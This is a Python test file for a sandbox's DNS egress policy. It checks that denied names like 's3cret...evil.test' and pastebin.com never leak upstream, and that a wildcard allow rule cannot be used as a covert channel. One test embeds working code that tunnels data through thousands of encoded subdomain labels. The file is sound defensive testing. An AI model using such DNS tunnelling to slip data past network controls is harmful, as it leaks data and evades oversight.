"""b1: data in denied names leaves no trace upstream; b2: data under an allowed wildcard trips a budget and disturbs nothing else."""
from expect import CODEX, NOT_LISTED, allow, ask, at_once, denied, policy_env, refused, reply, worked


def test_b1_denied_names_never_leave(lab):
    names = ["%s.evil.test" % ("s3cret%02d" % i * 4) for i in range(40)] + ["x" * 60 + ".y.pastebin.com", "a.b.c.d.e.f.evil.test"]
    steps = [ask(n, t, proto=p) for n in names[:20] for t, p in (("A", "udp"), ("TXT", "tcp"))] + [["resolve", n] for n in names]
    got = lab.probe(CODEX, steps)
    for row in got[:40]:
        message = reply(row)
        assert message["rcode"] == 3 and not message["answers"]
        at_once(row)
    for row in got[40:]:
        refused(row)
    assert lab.dns.log() == [] and lab.strangers() == []
    log = lab.netlog()
    for name in names:
        denied(log, NOT_LISTED, event="dns", name=name)


def test_b1_the_refusal_names_the_rule(lab):
    got = lab.probe([*CODEX, "--block-host", "deny.evil.test"], [ask("evil.test", edns=[]), ask("deny.evil.test", edns=[]), ask("evil.test")])
    for row in got[:2]:
        message = reply(row)
        assert message["rcode"] == 3 and message["ede"] and message["ede"][0] == 15 and message["ede"][1], message
    assert "deny.evil.test" in reply(got[1])["ede"][1]
    assert reply(got[2])["ede"] is None, "no EDNS was asked for"


def test_b2_a_wildcard_is_no_open_channel(lab):
    policy = {"allow": ["*.wild.test", "ok.test", "other.test"], "limits": {"dns_qps": 100000}}
    code = """
out = {'noerror': 0, 'other': 0, 'ok_fails': 0}
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect((gateway(), 53)); s.settimeout(3)
def q(labels):
    return struct.pack('!HHHHHH', 9, 256, 1, 0, 0, 0) + b''.join(bytes([len(l)]) + l for l in labels) + b'\\0' + struct.pack('!HH', 1, 1)
for i in range(2500):
    s.send(q([b'%048x' % (i * 7919), b'%032x' % i, b'wild', b'test']))
    out['noerror' if s.recv(4096)[3] & 15 == 0 else 'other'] += 1
    if i % 100 == 0:
        s.send(q([b'ok', b'test']))
        if s.recv(4096)[3] & 15: out['ok_fails'] += 1
"""
    got = lab.probe(CODEX, [["eval", code], ["resolve", "other.test", 4]], env=policy_env(lab, codex=policy), timeout=120)
    out = worked(got[0])
    assert out["other"] > 1500 and out["ok_fails"] == 0, out
    worked(got[1])
    leaked = [n for n in lab.dns.names() if n.endswith("wild.test")]
    assert len(leaked) < 1000 and sum(map(len, leaked)) < 60000, len(leaked)
    denied(lab.netlog(), ("codex: *.wild.test", "DNS budget exceeded"), event="dns", detail="too many different names under one wildcard")


def test_b2_ordinary_use_of_a_wildcard_is_not_a_channel(lab):
    steps = [["resolve", "%s.wild.test" % n, 4] for n in ("registry", "www", "cdn-1", "cdn-2", "files", "api", "static", "img", "a.b", "c.d")] * 5
    for row in lab.probe(allow("*.wild.test"), steps):
        worked(row)
